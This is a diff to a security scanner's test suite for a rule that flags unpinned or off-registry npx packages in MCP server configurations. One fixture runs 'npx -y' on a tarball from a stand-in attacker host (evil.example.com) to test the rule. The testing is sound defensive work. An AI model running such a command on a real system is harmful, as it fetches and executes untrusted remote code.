@@ -78,13 +78,30 @@ describe('unpinned-npm-package: negatives', () => {
       rel: s('npx', './tools/server.js'),
       file: s('npx', '-y', 'file:../local-pkg'),
       tgz: s('npx', '-y', 'mcp-server-x-1.0.0.tgz'),
-      git: s('npx', '-y', 'github:org/repo'),
+      gitsha: s('npx', '-y', 'git+https://github.com/org/repo.git#0123456789abcdef0123456789abcdef01234567'),
       node: s('node', 'dist/index.js'),
       npmrun: s('npm', 'run', 'start'),
     });
     const vscode = JSON.stringify({ servers: { pinned: { type: 'stdio', command: 'npx', args: ['@playwright/mcp@0.0.41'] } } });
     const r = await assessFiles({ [LEGACY]: text, [VSCODE]: vscode });
     assertNoFinding(r, RULE);
+  });
+});
+
+describe('unpinned-npm-package: packages from outside the registry', () => {
+  it('reports git, hosted-git and tarball URL specs (medium), but not a git URL at a full commit', async () => {
+    const text = legacyConfig({
+      gh: s('npx', '-y', 'github:org/repo'),
+      tgz: s('npx', '-y', 'https://evil.example.com/pkg.tgz'),
+      branch: s('npx', '-y', 'git+https://github.com/org/repo.git#main'),
+    });
+    const r = await assessFiles({ [LEGACY]: text });
+    for (const name of ['gh', 'tgz', 'branch']) assert.equal(onlyFinding(r, RULE, name).severity, 'medium', name);
+  });
+
+  it('judges an npm alias by the package it really runs', async () => {
+    const r = await assessFiles({ [LEGACY]: legacyConfig({ alias: s('npx', '-y', '@modelcontextprotocol/server-memory@npm:other-pkg@latest') }) });
+    assert.match(onlyFinding(r, RULE, 'alias').message, /runs other-pkg through npx/);
   });
 });
 
